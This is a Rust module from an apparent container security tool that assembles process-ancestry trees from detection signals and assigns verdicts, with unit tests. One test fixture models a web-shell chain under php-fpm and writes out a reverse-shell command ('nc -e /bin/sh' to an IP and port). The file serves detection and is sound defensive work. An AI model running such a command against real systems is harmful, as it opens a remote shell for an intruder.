//! The tree of the images that a container's signals know.
//!
//! Each signal tells one way from the oldest ancestor to its process. The ways are laid over each other from their beginnings,
//! so that what they have in common is there once, and no image is ever its own ancestor: a shell that executes a program that
//! executes a shell again gives three.

use portcullis_proto::v1::{Ancestor, Identification, Process, Signal, StoryProcess, Verdict};
use prost_types::Timestamp;

use crate::clock::ns;

/// Bytes of argv and of the path that are told of each.
const ARGV_BYTES: usize = 1024;
const EXE_BYTES: usize = 512;
/// How far apart a process's start may be told at different times, nanoseconds: it is converted from the kernel's clock
/// each time anew. No pid is given again so soon.
const START_TOLERANCE: i64 = 1_000_000_000;

/// The tree.
#[derive(Debug, Default)]
pub struct Processes {
    nodes: Vec<Node>,
    /// By signals' order in [`Processes::new`].
    of_signal: Vec<(u64, usize)>,
}

#[derive(Debug)]
struct Node {
    parent: Option<usize>,
    image: Image,
    process: StoryProcess,
}

/// An image as one signal tells of it.
#[derive(Debug, Clone)]
struct Image {
    pid: u32,
    container_pid: u32,
    uid: u32,
    exe: String,
    exe_truncated: bool,
    argv: Vec<String>,
    argv_truncated: bool,
    start_time: Option<Timestamp>,
}

impl From<&Ancestor> for Image {
    fn from(ancestor: &Ancestor) -> Self {
        Self {
            pid: ancestor.pid,
            container_pid: ancestor.container_pid,
            uid: ancestor.uid,
            exe: ancestor.exe.clone(),
            exe_truncated: ancestor.exe_truncated,
            argv: ancestor.argv.clone(),
            argv_truncated: ancestor.argv_truncated,
            start_time: ancestor.start_time,
        }
    }
}

impl From<&Process> for Image {
    fn from(process: &Process) -> Self {
        Self {
            pid: process.pid,
            container_pid: process.container_pid,
            uid: process.uid,
            exe: process.exe.clone(),
            exe_truncated: process.exe_truncated,
            argv: process.argv.clone(),
            argv_truncated: process.argv_truncated,
            start_time: process.start_time,
        }
    }
}

impl Image {
    /// Whether both are one: less is recorded of an ancestor than of a signal's own process.
    fn is(&self, other: &Self) -> bool {
        let starts = self.start_time.as_ref().zip(other.start_time.as_ref());
        self.pid == other.pid
            && starts.is_none_or(|(a, b)| ns(Some(a)).abs_diff(ns(Some(b))) <= START_TOLERANCE.unsigned_abs())
            && same_path((&self.exe, self.exe_truncated), (&other.exe, other.exe_truncated))
            && same_argv((&self.argv, self.argv_truncated), (&other.argv, other.argv_truncated))
    }

    /// How much is known of it.
    fn known(&self) -> (usize, usize) {
        (self.argv.iter().map(String::len).sum(), self.exe.len())
    }
}

/// Of a cut path the beginning is missing.
fn same_path((a, a_cut): (&str, bool), (b, b_cut): (&str, bool)) -> bool {
    match (a_cut, b_cut) {
        (false, false) => a == b,
        (true, false) => b.ends_with(a),
        (false, true) => a.ends_with(b),
        (true, true) => a.ends_with(b) || b.ends_with(a),
    }
}

/// Of a cut argv the end is missing. None at all is not known.
fn same_argv((a, a_cut): (&[String], bool), (b, b_cut): (&[String], bool)) -> bool {
    if a.is_empty() || b.is_empty() {
        return true;
    }
    let begins = |short: &[String], long: &[String]| {
        let Some((last, whole)) = short.split_last() else { return true };
        long.starts_with(whole) && long.get(whole.len()).is_none_or(|word| word.starts_with(last.as_str()))
    };
    a == b || (a_cut && begins(a, b)) || (b_cut && begins(b, a))
}

/// Words up to so many bytes, and whether any were left out.
fn cut_argv(argv: &[String]) -> (Vec<String>, bool) {
    let (mut left, mut words) = (ARGV_BYTES, Vec::new());
    for word in argv {
        let part = head(word, left);
        let whole = part.len() == word.len();
        if !whole && part.is_empty() {
            return (words, true);
        }
        words.push(part.to_owned());
        if !whole {
            return (words, true);
        }
        // An empty word takes room as well.
        left = left.saturating_sub(word.len() + 1);
        if left == 0 {
            break;
        }
    }
    let all = words.len() == argv.len();
    (words, !all)
}

/// The beginning of a text, at most so many bytes.
pub fn head(text: &str, bytes: usize) -> &str {
    let end = (0..=bytes.min(text.len())).rev().find(|end| text.is_char_boundary(*end));
    text.get(..end.unwrap_or_default()).unwrap_or_default()
}

impl Processes {
    /// Of signals in any order.
    pub fn new(signals: &[Signal]) -> Self {
        let mut tree = Self::default();
        // What has no beginning is laid over what has one.
        let (cut, whole): (Vec<_>, Vec<_>) = signals.iter().partition(|signal| signal.lineage_truncated);
        whole.into_iter().chain(cut).for_each(|signal| tree.add(signal));
        tree.number();
        tree
    }

    fn add(&mut self, signal: &Signal) {
        let Some(process) = &signal.process else { return };
        let mut parent = None;
        for (depth, ancestor) in signal.lineage.iter().rev().enumerate() {
            parent = Some(self.node(parent, ancestor.into(), depth == 0 && signal.lineage_truncated));
        }
        let image = Image::from(process);
        let is_execution = !process.filename.is_empty();
        let node = match parent.and_then(|parent| self.nodes.get(parent).map(|node| (parent, node))) {
            // A finding about a program that runs already.
            Some((own, node)) if !is_execution && node.image.is(&image) => own,
            _ => self.node(parent, image, signal.lineage.is_empty() && signal.lineage_truncated),
        };
        self.of_signal.push((signal.id, node));
        let Some(Node { process, .. }) = self.nodes.get_mut(node) else { return };
        process.signal_ids.push(signal.id);
        process.signal_ids.sort_unstable();
        // A socket that was refused ended nobody.
        let by_socket = signal.identified_by().any(|by| by == Identification::Socket);
        if signal.verdict() != Verdict::Blocked || !by_socket {
            process.verdict = process.verdict.max(signal.verdict);
        }
    }

    /// The node of an image below its parent, made if there is none yet. `anywhere`: its true parent is not known.
    fn node(&mut self, parent: Option<usize>, image: Image, anywhere: bool) -> usize {
        let found = self.nodes.iter().position(|node| (anywhere || node.parent == parent) && node.image.is(&image));
        if let Some(index) = found {
            if let Some(node) = self.nodes.get_mut(index)
                && image.known() > node.image.known()
            {
                node.image = image;
            }
            return index;
        }
        self.nodes.push(Node { parent, image, process: StoryProcess::default() });
        self.nodes.len() - 1
    }

    /// Numbers the nodes so that each comes after its parent and its elder siblings.
    fn number(&mut self) {
        let begun = |index: usize| {
            let node = self.nodes.get(index);
            let signal = node.and_then(|node| node.process.signal_ids.first().copied());
            (node.and_then(|node| node.image.start_time.as_ref()).map(|start| ns(Some(start))), signal, index)
        };
        let mut children: Vec<Vec<usize>> = vec![Vec::new(); self.nodes.len()];
        let mut roots = Vec::new();
        for (index, node) in self.nodes.iter().enumerate() {
            match node.parent.and_then(|parent| children.get_mut(parent)) {
                Some(siblings) => siblings.push(index),
                None => roots.push(index),
            }
        }
        for siblings in children.iter_mut().chain([&mut roots]) {
            siblings.sort_by_key(|&index| std::cmp::Reverse(begun(index)));
        }
        let (mut left, mut next) = (roots, 1);
        while let Some(index) = left.pop() {
            left.extend(children.get(index).into_iter().flatten());
            let parent = self.nodes.get(index).and_then(|node| node.parent).and_then(|parent| self.nodes.get(parent));
            let parent = parent.map_or(0, |parent| parent.process.number);
            let Some(Node { image, process, .. }) = self.nodes.get_mut(index) else { continue };
            (process.number, process.parent) = (next, parent);
            (process.pid, process.container_pid, process.uid) = (image.pid, image.container_pid, image.uid);
            head(&image.exe, EXE_BYTES).clone_into(&mut process.exe);
            let (argv, cut) = cut_argv(&image.argv);
            (process.argv, process.argv_truncated) = (argv, cut || image.argv_truncated);
            process.start_time = image.start_time;
            next += 1;
        }
    }

    /// The number of a signal's process; 0 when it has none.
    pub fn of_signal(&self, id: u64) -> u32 {
        let node = self.of_signal.iter().find(|(signal, _)| *signal == id).and_then(|(_, node)| self.nodes.get(*node));
        node.map_or(0, |node| node.process.number)
    }

    /// The number of the image of this pid that descends from a signal's process, the last one if there are several; the
    /// process's own when none does.
    pub fn of_pid(&self, id: u64, pid: u32) -> u32 {
        let Some((_, own)) = self.of_signal.iter().find(|(signal, _)| *signal == id) else { return 0 };
        let descends = |mut node: usize| loop {
            match self.nodes.get(node).and_then(|node| node.parent) {
                _ if node == *own => return true,
                Some(parent) => node = parent,
                None => return false,
            }
        };
        let mut nodes = self.nodes.iter().enumerate().rev();
        let found = nodes.find(|(index, node)| node.image.pid == pid && descends(*index));
        found.map_or_else(|| self.of_signal(id), |(_, node)| node.process.number)
    }

    /// All of them, by their numbers.
    pub fn into_list(self) -> Vec<StoryProcess> {
        let mut list: Vec<_> = self.nodes.into_iter().map(|node| node.process).collect();
        list.sort_by_key(|process| process.number);
        list
    }

    /// Those that began as processes of their own and are no signal's, with their start.
    pub fn starts(&self) -> impl Iterator<Item = (&StoryProcess, Timestamp)> {
        self.nodes.iter().filter_map(|node| {
            let parent = node.parent.and_then(|parent| self.nodes.get(parent));
            let forked = parent.is_none_or(|parent| parent.image.pid != node.image.pid);
            let start = node.process.start_time.filter(|_| forked && node.process.signal_ids.is_empty())?;
            Some((&node.process, start))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::triage::testing::{ancestor, signal, web_shell};

    fn shown(processes: Processes) -> Vec<(u32, u32, String)> {
        processes.into_list().into_iter().map(|one| (one.number, one.parent, one.argv.join(" "))).collect()
    }

    #[test]
    fn ways_that_begin_alike_are_one_tree() {
        let signals = web_shell();
        let tree = Processes::new(&signals);
        assert_eq!([1, 2, 3].map(|id| tree.of_signal(id)), [3, 4, 5]);
        assert_eq!((tree.of_signal(77), tree.of_pid(2, 999), tree.of_pid(2, 44)), (0, 4, 5));
        let expected = [
            (1, 0, "php-fpm"),
            (2, 1, "sh -c id"),
            (3, 2, "nslookup x.example"),
            // It executes the shell itself.
            (4, 2, "nc -e /bin/sh 10.0.0.1 4444"),
            (5, 4, "sh"),
        ];
        assert_eq!(shown(tree), expected.map(|(number, parent, argv)| (number, parent, argv.to_owned())));
    }

    #[test]
    fn no_image_is_its_own_ancestor() {
        let mut one = signal(1, 9, "nc", &["nc"]);
        one.lineage = ["a", "b", "a", "b", "a"].map(|exe| ancestor(9, exe, &[exe])).to_vec();
        let list = Processes::new(&[one.clone(), one]).into_list();
        assert_eq!(list.len(), 6);
        assert!(list.iter().all(|process| process.parent < process.number));
        assert_eq!(list.last().unwrap().signal_ids, [1, 1]);
    }

    #[test]
    fn a_way_without_its_beginning_finds_its_place() {
        let whole = signal(1, 9, "nc", &["nc"]);
        let mut cut = signal(2, 10, "dig", &["dig"]);
        cut.lineage.truncate(1);
        cut.lineage_truncated = true;
        let mut unknown = cut.clone();
        (unknown.id, unknown.lineage[0].pid) = (3, 555);
        let tree = Processes::new(&[cut, unknown, whole]);
        let list = tree.into_list();
        assert_eq!(list.iter().filter(|process| process.parent == 0).count(), 2, "{list:#?}");
        assert_eq!(list.len(), 6);
    }

    #[test]
    fn pids_and_cut_arguments_do_not_deceive() {
        let image = |pid, argv: &[&str], cut, seconds| Image {
            argv_truncated: cut,
            start_time: Some(Timestamp { seconds, nanos: 0 }),
            ..Image::from(&ancestor(pid, "/bin/sh", argv))
        };
        let one = image(7, &["sh", "-c", "abcdef"], false, 100);
        assert!(one.is(&image(7, &["sh", "-c", "abc"], true, 100)));
        assert!(one.is(&image(7, &[], false, 101)));
        assert!(!one.is(&image(7, &["sh", "-c", "abc"], false, 100)));
        assert!(!one.is(&image(7, &["sh", "-c", "abx"], true, 100)));
        assert!(!one.is(&image(7, &["sh", "-c", "abcdef"], false, 200)), "the pid was given again");
        assert!(!one.is(&image(8, &["sh", "-c", "abcdef"], false, 100)));
        let cut = |exe: &str, exe_truncated| Image { exe: exe.into(), exe_truncated, ..one.clone() };
        assert!(cut("bin/sh", true).is(&one) && !cut("bin/sh", false).is(&one));
    }

    #[test]
    fn arguments_are_cut() {
        let long = vec!["é".repeat(300), "é".repeat(300), "x".into()];
        let (words, cut) = cut_argv(&long);
        assert!(cut && words.len() == 2 && words.iter().map(String::len).sum::<usize>() <= ARGV_BYTES);
        assert_eq!(cut_argv(&["nc".into(), String::new()]), (vec!["nc".into(), String::new()], false));
        let (many, cut) = cut_argv(&vec![String::new(); 5000]);
        assert!(cut && many.len() <= ARGV_BYTES);
    }

    #[test]
    fn a_refused_socket_ends_nobody() {
        let mut one = signal(1, 9, "ping", &["ping"]);
        one.verdict = Verdict::Blocked.into();
        assert_eq!(Processes::new(std::slice::from_ref(&one)).into_list().last().unwrap().verdict(), Verdict::Blocked);
        one.identified_by = vec![Identification::Socket.into()];
        assert_eq!(Processes::new(&[one]).into_list().last().unwrap().verdict(), Verdict::Unspecified);
    }
}
